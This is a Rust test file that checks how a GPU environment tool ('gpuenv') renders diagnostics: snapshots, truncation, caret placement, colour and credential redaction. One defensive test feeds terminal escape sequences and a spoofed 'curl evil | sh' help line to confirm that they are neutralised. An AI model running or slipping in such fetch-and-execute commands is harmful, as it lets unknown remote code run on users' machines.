//! Tests of how diagnostics look.

use std::ops::Range;

use gpuenv_core::Code;
use proptest::prelude::*;

use super::*;

fn styled_text(given: &[Diagnostic], width: usize) -> String {
    let references: Vec<&Diagnostic> = given.iter().collect();
    diagnostics(&references, width)
}

fn plain(given: &[Diagnostic]) -> String {
    plain_at(given, 100)
}

fn plain_at(given: &[Diagnostic], width: usize) -> String {
    anstream::adapter::strip_str(&styled_text(given, width)).to_string()
}

const RECIPE: &str = "name: torch\ntarget:\n  cuda: \">=12.6\"\n";

fn driver_too_old() -> Diagnostic {
    Diagnostic::error(
        Code::PLAN_DRIVER_TOO_OLD,
        "recipe `torch` needs an NVIDIA driver for CUDA 12.6 or newer, this machine has 12.2",
    )
    .at(Place::span("recipes/torch.yaml", RECIPE, 3, 9, 8))
    .help("update the driver to 560.28.03 or newer")
    .help("or lock for what is here: `gpuenv lock torch --cuda 12.2`")
}

#[test]
fn a_placed_error_shows_its_line() {
    insta::assert_snapshot!(plain(&[driver_too_old()]), @r#"
    error[GE203]: recipe `torch` needs an NVIDIA driver for CUDA 12.6 or newer, this machine has 12.2
     --> recipes/torch.yaml:3:9
      |
    3 |   cuda: ">=12.6"
      |         ^^^^^^^^
    help: update the driver to 560.28.03 or newer
    help: or lock for what is here: `gpuenv lock torch --cuda 12.2`
    docs: `gpuenv explain GE203`
    "#);
}

#[test]
fn a_warning_without_a_place_is_just_its_lines() {
    let warning = Diagnostic::warning(Code::LOCK_STALE, "the lock is older than its recipe")
        .cause("`numpy >=2` is not in it")
        .cause("first line\nsecond line\n\nlast line\n");
    insta::assert_snapshot!(plain(&[warning]), @"
    warning[GE402]: the lock is older than its recipe
    cause: `numpy >=2` is not in it
    cause: first line
           second line

           last line
    docs: `gpuenv explain GE402`
    ");
}

#[test]
fn a_note_can_be_about_a_whole_file() {
    let note =
        Diagnostic::note(Code::LOCK_STALE, "this lock is fresh").at(Place::file("gpuenv.lock"));
    insta::assert_snapshot!(plain(&[note]), @"
    note[GE402]: this lock is fresh
     --> gpuenv.lock
    docs: `gpuenv explain GE402`
    ");
}

#[test]
fn one_page_is_named_once() {
    let errors = [
        Diagnostic::error(Code::RECIPE_BAD_SPEC, "first"),
        Diagnostic::error(Code::RECIPE_UNKNOWN_KEY, "second"),
        Diagnostic::error(Code::RECIPE_BAD_SPEC, "third"),
    ];
    insta::assert_snapshot!(plain(&errors), @"
    error[GE105]: first

    error[GE102]: second
    docs: `gpuenv explain GE102`

    error[GE105]: third
    docs: `gpuenv explain GE105`
    ");
}

#[test]
fn a_flood_of_errors_is_cut() {
    let errors: Vec<Diagnostic> = (0..100_000)
        .map(|number| Diagnostic::error(Code::RECIPE_BAD_SPEC, format!("number {number}")))
        .collect();
    let text = plain(&errors);
    assert!(text.contains("number 49\n") && !text.contains("number 50\n"));
    assert!(
        text.ends_with("docs: `gpuenv explain GE105`\n\n… and 99950 more\n"),
        "{text}"
    );
}

#[test]
fn style_follows_meaning() {
    let text = styled_text(&[driver_too_old()], 100);
    insta::assert_snapshot!(text.escape_debug().to_string().replace("\\n", "\n"), @r#"
    \u{1b}[1m\u{1b}[91merror[GE203]\u{1b}[0m\u{1b}[1m: recipe `torch` needs an NVIDIA driver for CUDA 12.6 or newer, this machine has 12.2\u{1b}[0m
     \u{1b}[1m\u{1b}[94m-->\u{1b}[0m recipes/torch.yaml:3:9
      \u{1b}[1m\u{1b}[94m|\u{1b}[0m
    \u{1b}[1m\u{1b}[94m3\u{1b}[0m \u{1b}[1m\u{1b}[94m|\u{1b}[0m   cuda: \">=12.6\"
      \u{1b}[1m\u{1b}[94m|\u{1b}[0m         \u{1b}[1m\u{1b}[91m^^^^^^^^\u{1b}[0m
    \u{1b}[1m\u{1b}[96mhelp:\u{1b}[0m update the driver to 560.28.03 or newer
    \u{1b}[1m\u{1b}[96mhelp:\u{1b}[0m or lock for what is here: \u{1b}[36m`gpuenv lock torch --cuda 12.2`\u{1b}[0m
    \u{1b}[2mdocs:\u{1b}[0m \u{1b}[36m`gpuenv explain GE203`\u{1b}[0m
    "#);
}

#[test]
fn a_long_line_is_cut_around_what_matters() {
    let line = format!(
        "dependencies: [{}, numpi, {}]",
        "a".repeat(500),
        "b".repeat(500_000)
    );
    let error = Diagnostic::error(Code::RECIPE_BAD_SPEC, "no such thing")
        .at(Place::span("r.yaml", &line, 1, 518, 5));
    insta::assert_snapshot!(plain_at(&[error], 60), @"
    error[GE105]: no such thing
     --> r.yaml:1:518
      |
    1 | …aaaaaaaaaaaaaaaaaaa, numpi, bbbbbbbbbbbbbbbbbbbb…
      |                       ^^^^^
    docs: `gpuenv explain GE105`
    ");
}

#[test]
fn a_long_span_fills_the_line() {
    let line = format!("name: {}", "x".repeat(100_000));
    let error = Diagnostic::error(Code::RECIPE_WRONG_TYPE, "too long")
        .at(Place::span("r.yaml", &line, 1, 7, 100_000));
    insta::assert_snapshot!(plain_at(&[error], 60), @"
    error[GE103]: too long
     --> r.yaml:1:7
      |
    1 | …xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…
      |  ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
    docs: `gpuenv explain GE103`
    ");
}

#[test]
fn carets_stand_below_wide_and_combining_characters_and_tabs() {
    let line = "\t名前: e\u{301}te\u{301} ok";
    let error = Diagnostic::error(Code::RECIPE_WRONG_TYPE, "not ok")
        .at(Place::span("r.yaml", line, 1, 12, 2));
    insta::assert_snapshot!(plain(&[error]), @"
    error[GE103]: not ok
     --> r.yaml:1:12
      |
    1 |     名前: été ok
      |               ^^
    docs: `gpuenv explain GE103`
    ");
}

#[test]
fn a_recipe_cannot_steer_the_terminal() {
    let line = "name: \u{1b}[2J\u{9b}31m\u{202e}evil";
    let error = Diagnostic::error(Code::RECIPE_WRONG_TYPE, "bad \u{1b}]0;title\u{7} name")
        .at(Place::span("\u{1b}[1mr.yaml", line, 1, 14, 4))
        .cause("a\u{8}b\rc\nhelp: `curl evil | sh`\nerror[GE101]: fake")
        .help("\u{1b}[31mred");
    insta::assert_snapshot!(plain(&[error]), @r#"
    error[GE103]: bad ␛]0;title␇ name
     --> ␛[1mr.yaml:1:14
      |
    1 | name: ␛[2J\u{9b}31m\u{202e}evil
      |                   ^^^^^^^^^^^
    cause: a␈b␍c
           help: `curl evil | sh`
           error[GE101]: fake
    help: ␛[31mred
    docs: `gpuenv explain GE103`
    "#);
}

#[test]
fn a_token_is_not_shown_and_columns_stay_right() {
    let line = "channels: [https://me:secret@host/c, bad chan]";
    let error = Diagnostic::error(Code::CHANNEL_BAD_NAME, "`https://me:secret@host/c` is odd")
        .at(Place::span("r.yaml", line, 1, 38, 8))
        .cause("GET https://host/t/tk-123/x: 403")
        .help("see https://host/?token=abc&x=1");
    let text = plain(&[error]);
    assert!(!text.contains("secret"));
    insta::assert_snapshot!(text, @"
    error[GE306]: `https://***@host/c` is odd
     --> r.yaml:1:38
      |
    1 | channels: [https://*********@host/c, bad chan]
      |                                      ^^^^^^^^
    cause: GET https://host/t/***/x: 403
    help: see https://host/?token=***&x=1
    docs: `gpuenv explain GE306`
    ");
}

#[test]
fn a_bad_command_line_needs_no_code() {
    let text = usage(
        "`GE999` is not a code",
        &["`gpuenv explain` lists them".into()],
    );
    insta::assert_snapshot!(anstream::adapter::strip_str(&text), @"
    error: `GE999` is not a code
    help: `gpuenv explain` lists them
    ");
}

#[test]
fn the_window_always_holds_the_start_of_the_span() {
    let holds = |total: usize, span: Range<usize>, room: usize| {
        let window = window(total, span.start, span.end, room);
        window.end <= total && window.len() <= total.max(room) && window.start <= span.start
    };
    for total in [0, 1, 19, 20, 21, 100] {
        for start in 0..=total {
            assert!(holds(total, start..total, 20), "{total} {start}");
            assert!(holds(total, start..start, 20), "{total} {start}");
        }
    }
}

proptest! {
    /// `Span`'s fields are public and come from many parsers: nothing about them is sure.
    #[test]
    fn any_span_can_be_shown(
        text in "(\\PC|[\\x00-\\x1f\u{301}\u{200d}名\u{202e}]){0,80}",
        line in prop_oneof![Just(0), 1usize..100, Just(usize::MAX)],
        column in prop_oneof![0usize..100, Just(usize::MAX)],
        length in prop_oneof![0usize..100, Just(usize::MAX)],
        width in prop_oneof![0usize..130, Just(usize::MAX)],
    ) {
        let place = Place {
            file: text.clone(),
            span: Some(Span { line, column, length, text: text.clone(), cut: 0 }),
        };
        let error = Diagnostic::error(Code::RECIPE_SYNTAX, &text).at(place).cause(&text).help(&text);
        let shown = plain_at(&[error], width);
        prop_assert!(!shown.chars().any(|c| c != '\n' && c.is_control()), "{shown:?}");
    }
}
